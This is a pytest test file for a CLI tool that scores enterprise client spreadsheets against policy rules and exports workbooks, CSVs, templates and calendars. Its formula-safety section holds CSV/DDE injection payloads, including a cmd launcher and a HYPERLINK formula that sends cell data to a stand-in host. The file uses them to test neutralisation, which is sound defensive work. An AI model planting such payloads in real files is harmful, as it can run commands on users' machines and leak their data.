"""What `xacheck batch` hands on: the workbook for people, lean machine output, no live formula anywhere,
the template that reads back, the book over time and the book's calendar (issue 16 deliverables, issue 15 #1)."""
from __future__ import annotations

import glob
import json
import re
import zipfile

import pytest

pl = pytest.importorskip("polars")
fastexcel = pytest.importorskip("fastexcel")
from click.testing import CliRunner  # noqa: E402

from xacheck.cli import main  # noqa: E402

from .conftest import MINI_PACK, ROOT  # noqa: E402

AS_OF = "2026-06-01"
HEAD = ["统一社会信用代码", "名称", "营业收入（元）", "研发费用（万元）", "所在城市", "客户经理"]
ROWS = [
    ["916101310000000015", "甲公司", "863562000", "4317.81", "西安市", "王"],
    ["000123456789012340", "乙公司", "863562000", "4317.82", "西安市", "李"],
    ["91610131000000003B", "丙公司", "五万", "100", "西安市", "张"],
]
SAMPLES = sorted(glob.glob(str(ROOT / "samples" / "enterprise-*.yaml")))


def _run(args, ok=(0, 1)):
    res = CliRunner().invoke(main, args, catch_exceptions=False)
    assert res.exit_code in ok, res.output
    return res


def _csv(path, head, rows):
    import csv

    with open(path, "w", encoding="utf-8-sig", newline="") as f:
        csv.writer(f, lineterminator="\r\n").writerows([head] + rows)
    return str(path)


@pytest.fixture
def mini(tmp_path):
    d = tmp_path / "rules"
    d.mkdir()
    (d / "mini.yaml").write_text(MINI_PACK, encoding="utf-8")
    return ["--rules", str(d), "--no-shipped"]


def _sheet_xml(path) -> dict[str, str]:
    with zipfile.ZipFile(path) as z:
        return {n: z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/sheet")}


# --------------------------------------------------------------------------------------------- the workbook
def test_workbook_reads_as_a_deliverable(tmp_path, mini):
    src = _csv(tmp_path / "clients.csv", HEAD, ROWS)
    out = tmp_path / "scored.xlsx"
    _run(["batch", src, "-o", str(out), "--as-of", AS_OF, *mini])
    book = fastexcel.read_excel(str(out))
    assert book.sheet_names == ["评估结果", "汇总", "规则说明"]
    res = book.load_sheet("评估结果", dtypes="string").to_polars()
    # the input's own columns first, in their order, as typed (营业收入 in 元 stays in 元)
    assert res.columns[:6] == HEAD
    assert res["营业收入（元）"].to_list()[:2] == ["863562000", "863562000"]
    # one column per rule headed by its clause and title, statuses in words
    assert res.columns[6:8] == ["脚注1 双五企业", "（四） 重点支持"]
    # (丙's 营业收入 五万 cannot be read: that field is unknown, the row is scored — issue 16)
    assert res["脚注1 双五企业"].to_list() == ["不适用", "适用", "待补充数据"]
    assert res["（四） 重点支持"].to_list() == ["需评审认定", "需评审认定", "需评审认定"]
    assert res.columns[8:] == ["适用（项）", "需评审认定（项）", "待补充数据（项）", "最接近适用", "差距", "差距（相对门槛）",
                               "需补充字段", "提示", "可信度提示", "行类型", "错误"]
    assert res["差距"][0] == "研发投入强度 恰在门槛上，需严格超过"  # 4317.81 / 86356.2 is exactly 5%: not 超过
    assert "五万" in res["错误"][2]
    xml = _sheet_xml(out)["xl/worksheets/sheet1.xml"]
    assert '<pane xSplit="2" ySplit="1"' in xml                       # headings and the id columns frozen
    assert "<autoFilter ref=" in xml and "<conditionalFormatting" in xml   # a filter, a colour per status
    assert '<col min="1" max="1" width=' in xml                         # widths set


def test_summary_sheet_counts_and_lists_rows_with_errors(tmp_path, mini):
    src = _csv(tmp_path / "clients.csv", HEAD, ROWS)
    out = tmp_path / "scored.xlsx"
    _run(["batch", src, "-o", str(out), "--as-of", AS_OF, *mini])
    cells = fastexcel.read_excel(str(out)).load_sheet("汇总", header_row=None, dtypes="string").to_polars()
    text = [[v for v in row if v is not None] for row in cells.rows()]
    assert text[1] == ["共 3 行；1 行有错误"]
    head = text.index(["规则", "规则编号", "适用", "需评审认定", "待补充数据", "不适用", "合计"])
    assert text[head + 1] == ["脚注1 双五企业", "mini.shuangwu", "1", "0", "1", "1", "3"]  # (丙: revenue unknown)
    errors = text.index(["行号", "企业", "错误"])
    assert text[errors + 1][:2] == ["4", "丙公司"] and "五万" in text[errors + 1][2]


def test_rules_sheet_gives_supports_source_and_quote(tmp_path, mini):
    src = _csv(tmp_path / "clients.csv", HEAD, ROWS)
    out = tmp_path / "scored.xlsx"
    _run(["batch", src, "-o", str(out), "--as-of", AS_OF, "--lang", "en", *mini])
    rules = fastexcel.read_excel(str(out)).load_sheet("rules", dtypes="string").to_polars()
    row = rules.filter(pl.col("rule id") == "mini.shuangwu").row(0, named=True)
    assert row["heading in the results"] == "脚注1 Double-five enterprise"
    assert row["supports"] == "Cultivation support"
    assert row["quote"] == "营收超5亿元且内部研发投入强度超过5%的企业"
    assert row["source"] == "《测试文件》脚注1" and row["clause"] == "脚注1"


def test_zh_and_en_differ_where_they_should(tmp_path, mini):
    src = _csv(tmp_path / "clients.csv", HEAD, ROWS)
    zh, en = tmp_path / "zh.xlsx", tmp_path / "en.xlsx"
    _run(["batch", src, "-o", str(zh), "--as-of", AS_OF, *mini])
    _run(["batch", src, "-o", str(en), "--as-of", AS_OF, "--lang", "en", *mini])
    a = fastexcel.read_excel(str(zh)).load_sheet(0, dtypes="string").to_polars()
    b = fastexcel.read_excel(str(en)).load_sheet(0, dtypes="string").to_polars()
    assert a.columns[:6] == b.columns[:6] == HEAD                      # the client's headings are the client's
    assert (a.columns[6], b.columns[6]) == ("脚注1 双五企业", "脚注1 Double-five enterprise")
    assert (a[:, 6].to_list()[:2], b[:, 6].to_list()[:2]) == (["不适用", "适用"], ["not applicable", "applies"])
    assert (a["需补充字段"].to_list(), b["fields that would settle unknown rules"].to_list()) == \
        ([None, None, "营业收入（万元）"], [None, None, "Operating revenue (10k CNY)"])
    # the CSV is for programs: stable keys in either language, cell for cell — only the words written for a
    # person (an error, a warning) speak the run's language
    c1, c2 = tmp_path / "zh.csv", tmp_path / "en.csv"
    _run(["batch", src, "-o", str(c1), "--as-of", AS_OF, *mini])
    _run(["batch", src, "-o", str(c2), "--as-of", AS_OF, "--lang", "en", *mini])
    d1, d2 = pl.read_csv(c1, infer_schema=False), pl.read_csv(c2, infer_schema=False)
    words = [c for c in ("error", "warning", "confidence_note") if c in d1.columns]
    assert d1.columns == d2.columns and d1.drop(words).equals(d2.drop(words))
    bad = [i for i, e in enumerate(d1["error"].to_list()) if e]
    assert bad and all(re.search("[\u4e00-\u9fff]{2}", d1["error"][i].split("：", 1)[1]) for i in bad)  # zh
    assert all(re.search("[a-z]{3} ", d2["error"][i]) for i in bad)                                    # en
    assert pl.read_csv(c1, infer_schema=False)["mini.shuangwu"].to_list() == ["not_applicable", "applies", "unknown"]


def test_rules_not_in_force_are_left_out_unless_asked(tmp_path, mini):
    src = _csv(tmp_path / "clients.csv", HEAD, ROWS)
    out, every = tmp_path / "late.csv", tmp_path / "every.csv"
    _run(["batch", src, "-o", str(out), "--as-of", "2027-02-01", *mini])       # MINI_PACK ends 2026-12-31
    _run(["batch", src, "-o", str(every), "--as-of", "2027-02-01", "--all-rules", *mini])
    assert not [c for c in pl.read_csv(out, infer_schema=False).columns if c.startswith("mini.")]
    got = pl.read_csv(every, infer_schema=False)
    assert got["mini.shuangwu"].to_list() == ["expired", "expired", "expired"]  # (丙's bad cell costs its field only)


def test_supports_by_reference_not_text(tmp_path, mini):
    src = _csv(tmp_path / "clients.csv", HEAD, ROWS)
    out = tmp_path / "scored.csv"
    _run(["batch", src, "-o", str(out), "--as-of", AS_OF, *mini])
    assert pl.read_csv(out, infer_schema=False)["supports"].to_list() == [None, "mini.shuangwu", None]


# ------------------------------------------------------------------------------------ no live formulas
EVIL = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://x.invalid/?"&A1,"点我")', "+1+cmd|' /C calc'!A0", "-2+3",
        "@SUM(1+1)", "\t=1+1", "{=1+1}"]
EVIL_PACK = MINI_PACK.replace("title: {zh: 双五企业, en: Double-five enterprise}",
                              "title: {zh: '=HYPERLINK(\"http://x.invalid\",\"双五\")', en: '=1+1'}").replace(
    "supports: [{zh: 培育支持, en: Cultivation support}]", "supports: [{zh: '=cmd|'' /C calc''!A0', en: '@SUM(1)'}]")


@pytest.fixture
def evil_book(tmp_path):
    d = tmp_path / "evil-rules"
    d.mkdir()
    (d / "mini.yaml").write_text(EVIL_PACK, encoding="utf-8")
    head = HEAD[:5] + ["=客户经理()"]
    rows = [["916101310000000015", e, "863562000", "4317.82", "西安市", e] for e in EVIL] + [
        ["000123456789012340", "乙公司", "-5", "1", "西安市", "-7.5"]]
    return _csv(tmp_path / "evil.csv", head, rows), ["--rules", str(d), "--no-shipped"]


def test_scored_xlsx_has_no_formula_cell(tmp_path, evil_book):
    src, rules = evil_book
    for lang in ("zh", "en"):
        out = tmp_path / f"evil-{lang}.xlsx"
        _run(["batch", src, "-o", str(out), "--as-of", AS_OF, "--lang", lang, *rules])
        for name, xml in _sheet_xml(out).items():
            assert "<f>" not in xml and "<f " not in xml, name      # no formula cell in any sheet
        res = fastexcel.read_excel(str(out)).load_sheet(0, dtypes="string").to_polars()
        assert res["名称"].to_list()[: len(EVIL)] == EVIL            # the text, as it was
        assert res.columns[5] == "=客户经理()"
        assert '=HYPERLINK("http://x.invalid","双五")' in res.columns[6] or "=1+1" in res.columns[6]


def test_csv_neutralises_formula_starts_and_raw_csv_does_not(tmp_path, evil_book):
    src, rules = evil_book
    safe, raw = tmp_path / "safe.csv", tmp_path / "raw.csv"
    _run(["batch", src, "-o", str(safe), "--as-of", AS_OF, *rules])
    _run(["batch", src, "-o", str(raw), "--as-of", AS_OF, "--raw-csv", *rules])
    s = pl.read_csv(safe, infer_schema=False)
    assert s.columns[2] == "'=客户经理()"
    assert s["名称"].to_list() == ["'" + e for e in EVIL[:-1]] + ["{=1+1}", "乙公司"]  # (no formula start: as is)
    assert s["'=客户经理()"].to_list()[-1] == "-7.5"                  # a plain number stays a number
    assert all(not x.startswith(("=", "+", "-", "@")) for x in s["error"].to_list() if x)
    r = pl.read_csv(raw, infer_schema=False)
    assert r["名称"].to_list()[: len(EVIL)] == EVIL and r.columns[2] == "=客户经理()"


@pytest.mark.parametrize("text,quoted", [("=1+1", True), ("+5", False), ("-5", False), ("-1,234.5", False),
                                         ("-12%", False), ("-", False), ("-x", True), ("@x", True), ("\t1", True),
                                         ("\r=1", True), ("名称", False), ("", False), ("+", True)])
def test_formula_start_rule(text, quoted):
    from xacheck.batch.formulas import csv_frame, csv_text

    assert (csv_text(text) == "'" + text) is quoted
    assert csv_frame(pl.DataFrame({"a": [text]}))["a"][0] == csv_text(text)


# ----------------------------------------------------------------------------------------- the template
def test_empty_template_reads_back_with_no_mapping(tmp_path):
    out = tmp_path / "clients.xlsx"
    _run(["template", str(out), "--as-of", "2026-12-02"], ok=(0,))
    book = fastexcel.read_excel(str(out))
    assert book.sheet_names[:2] == ["企业信息", "填表说明"]
    heads = book.load_sheet(0).to_polars().columns
    assert heads[:3] == ["名称", "统一社会信用代码", "编号"]
    assert "营业收入（万元）" in heads and "高新技术企业认定日期" in heads
    xml = _sheet_xml(out)["xl/worksheets/sheet1.xml"]
    assert '<dataValidation type="list"' in xml and "<formula1>\"是,否\"</formula1>" in xml
    res = CliRunner().invoke(main, ["batch", str(out), "-o", str(tmp_path / "r.csv"), "--as-of", "2026-12-02"],
                             catch_exceptions=False)
    assert res.exit_code == 0, res.output
    assert "matches no field" not in res.output and "--map" not in res.output
    assert pl.read_csv(tmp_path / "r.csv", infer_schema=False).height == 0


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_template_from_the_samples_scores_as_check_does(tmp_path, suffix):
    book = tmp_path / f"book{suffix}"
    _run(["template", str(book), *SAMPLES, "--as-of", "2026-12-02"], ok=(0,))
    out = tmp_path / "scored.csv"
    res = CliRunner().invoke(main, ["batch", str(book), "-o", str(out), "--as-of", "2026-12-02", "--all-rules"],
                             catch_exceptions=False)
    assert res.exit_code == 0 and "matches no field" not in res.output, res.output
    got = pl.read_csv(out, infer_schema=False)
    assert got.height == len(SAMPLES)
    for i, s in enumerate(SAMPLES):
        check = json.loads(_run(["check", s, "--format", "json", "--as-of", "2026-12-02"]).output)
        assert got["名称"][i] == check["profile"]["name"]
        for r in check["results"]:
            assert got[r["id"]][i] == r["status"], (s, r["id"])


def test_template_refuses_to_overwrite(tmp_path):
    out = tmp_path / "clients.xlsx"
    out.write_bytes(b"someone's work")
    res = CliRunner().invoke(main, ["template", str(out)])
    assert res.exit_code == 2 and "--force" in res.output and out.read_bytes() == b"someone's work"


# ------------------------------------------------------------------------------------ the book over time
@pytest.fixture(scope="module")
def sample_book(tmp_path_factory):
    d = tmp_path_factory.mktemp("book")
    book = d / "book.xlsx"
    _run(["template", str(book), *SAMPLES, "--as-of", "2026-12-02"], ok=(0,))
    return book


def test_book_over_time_is_diff_for_every_client(tmp_path, sample_book):
    out = tmp_path / "changes.csv"
    res = _run(["batch", str(sample_book), "-o", str(out), "--as-of", "2026-12-31", "--to", "2027-01-01"], ok=(0,))
    got = pl.read_csv(out, infer_schema=False)
    assert got.height == len(SAMPLES)
    for i, s in enumerate(SAMPLES):
        d = json.loads(_run(["diff", s, "--as-of", "2026-12-31", "--to", "2027-01-01", "--format", "json"]).output)
        for kind in ("gained", "lost", "changed"):
            want = [it["rule_id"] for it in d[kind]]
            assert (got[kind][i] or "").split(" | ") == (want or [""]), (s, kind)
            assert int(got[f"n_{kind}"][i]) == len(want)
        for it in d["changed"] + d["lost"]:
            assert got[it["rule_id"]][i] == f"{it['from']}→{it['to']}"
    lose = sum(1 for x in got["lost"].to_list() if x and "xa-hardtech-2024.m05-three-firsts" in x)
    assert f"{lose} 家客户失去 （五） 突出首台套、首批次、首版次应用" in res.output


def test_book_over_time_between_two_pack_versions(tmp_path, mini):
    src = _csv(tmp_path / "clients.csv", HEAD, ROWS)
    v2 = tmp_path / "v2"
    v2.mkdir()
    (v2 / "mini.yaml").write_text(MINI_PACK.replace("revenue_wan > 50000", "revenue_wan > 90000")
                                  .replace("  - id: mini.xian-qualitative", "  - id: mini.xian-qualitative-gone"),
                                  encoding="utf-8")
    out = tmp_path / "versions.xlsx"
    res = _run(["batch", src, "-o", str(out), "--as-of", AS_OF, "--to-rules", str(v2), "--lang", "en", *mini])
    assert "1 clients lose 脚注1 Double-five enterprise" in res.output
    book = fastexcel.read_excel(str(out))
    assert book.sheet_names == ["changes", "summary", "rules"]
    ch = book.load_sheet("changes", dtypes="string").to_polars()
    # 甲 (exactly 5%) was not 双五 and is not; 乙 loses it at the higher threshold; all three lose the removed rule
    # (丙's unreadable revenue leaves 双五 unknown on both sides, and the row is compared)
    assert ch["lost (rules)"].to_list() == ["1", "2", "1"] and ch["changed (rules)"].to_list() == ["0", "0", "0"]
    assert ch["脚注1 Double-five enterprise"].to_list() == [None, "applies → not applicable", None]
    assert ch["（四） Key support"].to_list() == ["needs assessment → —"] * 3


def test_book_calendar_names_every_client(tmp_path, sample_book):
    icalendar = pytest.importorskip("icalendar")
    ics = tmp_path / "book.ics"
    res = _run(["deadlines", "--book", str(sample_book), "--within", "90d", "--as-of", "2026-12-02", "--ics", str(ics),
                "--format", "json"], ok=(0,))
    events = json.loads(res.stdout)["events"]
    for s in SAMPLES:  # each client's dates are its own `deadlines --profile`
        one = json.loads(_run(["deadlines", "--profile", s, "--within", "90d", "--as-of", "2026-12-02",
                               "--format", "json"]).stdout)
        name = json.loads(_run(["check", s, "--format", "json", "--as-of", "2026-12-02"]).output)["profile"]["name"]
        want = sorted((d["date"], d["kind"], d["rule_id"]) for d in one["deadlines"])
        got = sorted((e["date"], e["kind"], it["rule_id"]) for e in events if e["client"] == name for it in e["items"])
        assert got == want, s
    cal = icalendar.Calendar.from_ical(ics.read_bytes())
    vevents = list(cal.walk("VEVENT"))
    assert len(vevents) == len(events) > 0
    assert len({str(e["UID"]) for e in vevents}) == len(vevents)
    for e, ev in zip(events, vevents):
        assert e["client"] in str(ev["SUMMARY"])
    assert any("称号到期需复审：西安曦芒光电科技有限公司" in str(ev["SUMMARY"]) for ev in vevents)


# ------------------------------------------------------------------------------------------- internals
def test_fold_cuts_on_bytes_as_before():
    from xacheck.ics import fold

    for line in ["X" * 75, "X" * 76, "中" * 40, "a" + "中" * 60, "DESCRIPTION:" + "说明，" * 50]:
        folded = fold(line)
        parts = folded.encode("utf-8").split(b"\r\n")
        assert all(len(p) <= 75 for p in parts) and folded.replace("\r\n ", "") == line
        assert all(re.fullmatch(rb"[\x00-\x7f]|[\xc0-\xff]", p[1:2] or b"a") or p[:1] != b" " for p in parts)


def test_workbook_keeps_odd_text_exactly(tmp_path, mini):
    """XML's own characters, spaces at the ends, a line end, a literal _x0041_ and a control character come back
    as typed (the rows are XML built by Polars, not xlsxwriter: see batch/sheetrows.py)."""
    odd = ["A&B <c> \"q\"", "  two spaces ", "line\nend", "_x0041_ stays", "bell\x07", "全角　空格"]
    rows = [["916101310000000015", f"公司{i}", "863562000", "4317.82", "西安市", v] for i, v in enumerate(odd)]
    src = _csv(tmp_path / "odd.csv", HEAD, rows)
    out = tmp_path / "odd.xlsx"
    _run(["batch", src, "-o", str(out), "--as-of", AS_OF, *mini])
    res = fastexcel.read_excel(str(out)).load_sheet(0, dtypes="string").to_polars()
    assert res["客户经理"].to_list() == odd
    assert res["营业收入（元）"].to_list() == ["863562000"] * len(odd)
    with zipfile.ZipFile(out) as z:
        xml = z.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert '<c r="C2" s="' in xml and "><v>863562000</v></c>" in xml       # a number cell, not text
    assert f'<dimension ref="A1:{re.search(r"<dimension ref=.A1:([A-Z]+)", xml).group(1)}{len(odd) + 1}"/>' in xml


# ------------------------------------------------------------------------------- the workbook, scored again
PLACES_HEAD = ["企业名称", "所在城市", "所在区县或开发区", "营业收入（万元）", "所属产业领域"]
PLACES_ROWS = [["甲公司", "西安", "高新区", "12,345.60", "光子"],
               ["乙公司", "西按", "", "五万", "人工智能"],
               ["丙公司", "宝鸡", "", "800", ""]]


def _sheet(path):
    return fastexcel.read_excel(str(path)).load_sheet(0, header_row=None, dtypes="string").to_polars()


def test_the_workbook_shows_places_as_the_client_wrote_them(tmp_path):
    src = _csv(tmp_path / "book.csv", PLACES_HEAD, PLACES_ROWS)
    _run(["batch", src, "-o", str(tmp_path / "book.xlsx"), "--as-of", AS_OF, "-q"])
    got = _sheet(tmp_path / "book.xlsx")[1:, :3].rows()
    # the query reads them settled (西安市, zone 西安高新区, unknown); the client's register keeps their words
    assert [tuple(c or "" for c in r) for r in got] == [("甲公司", "西安", "高新区"), ("乙公司", "西按", ""), ("丙公司", "宝鸡", "")]


def test_a_scored_workbook_scored_again_gives_the_same_results(tmp_path):
    src = _csv(tmp_path / "book.csv", PLACES_HEAD, PLACES_ROWS)
    _run(["batch", src, "-o", str(tmp_path / "first.csv"), "--as-of", AS_OF, "-q"])
    _run(["batch", src, "-o", str(tmp_path / "book.xlsx"), "--as-of", AS_OF, "-q"])
    res = _run(["batch", str(tmp_path / "book.xlsx"), "-o", str(tmp_path / "again.csv"), "--as-of", AS_OF])
    # the old result columns are no input: one note, no "matches no field" per column, none carried through
    assert "上次评估写入的结果" in res.output and "不对应任何字段" not in res.output, res.output
    first = pl.read_csv(tmp_path / "first.csv", infer_schema=False)
    again = pl.read_csv(tmp_path / "again.csv", infer_schema=False)
    assert again.columns == first.columns
    assert again.equals(first)


def test_a_sheet_that_is_no_xacheck_output_keeps_a_column_called_warning(tmp_path):
    src = _csv(tmp_path / "own.csv", ["企业名称", "所在城市", "提示"], [["甲公司", "西安市", "重点跟进"]])
    _run(["batch", src, "-o", str(tmp_path / "own.xlsx"), "--as-of", AS_OF, "-q"])
    sheet = _sheet(tmp_path / "own.xlsx")
    assert "重点跟进" in sheet.row(1)
